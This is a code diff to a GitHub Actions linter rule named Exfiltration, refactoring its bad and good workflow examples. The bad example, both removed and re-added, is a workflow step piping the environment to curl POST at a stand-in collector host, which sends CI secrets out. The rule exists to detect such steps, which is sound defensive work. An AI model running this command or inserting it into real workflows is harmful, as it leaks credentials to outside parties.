@@ -10,6 +10,16 @@ import (
 	"github.com/infralint/infralint/internal/lint"
 )
 
+const exfiltrationGood = `
+-- .github/workflows/test.yml --
+on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: env | sort
+`
+
 // Exfiltration reports scripts that send out what they should not.
 var Exfiltration = &actions.SourceAnalyzer{
 	Rule: lint.Rule{
@@ -25,24 +35,8 @@ meant, to look into a run, it is a way in for whoever listens.
 Find out who added it, and revoke the secrets that the job had. To look into a run, use
 "Enable debug logging".
 `,
-		Bad: `
--- .github/workflows/test.yml --
-on: push
-jobs:
-  test:
-    runs-on: ubuntu-latest
-    steps:
-      - run: env | curl -X POST -d @- https://collect.example.com
-`,
-		Good: `
--- .github/workflows/test.yml --
-on: push
-jobs:
-  test:
-    runs-on: ubuntu-latest
-    steps:
-      - run: env | sort
-`,
+		Bad:   lint.Edit(exfiltrationGood, "- run: env | sort", "- run: env | curl -X POST -d @- https://collect.example.com"),
+		Good:  exfiltrationGood,
 		Tags:  []string{"security"},
 		Peers: []string{"checkov:CKV_GHA_3", "checkov:CKV_GHA_4"},
 		Since: "0.1.0",
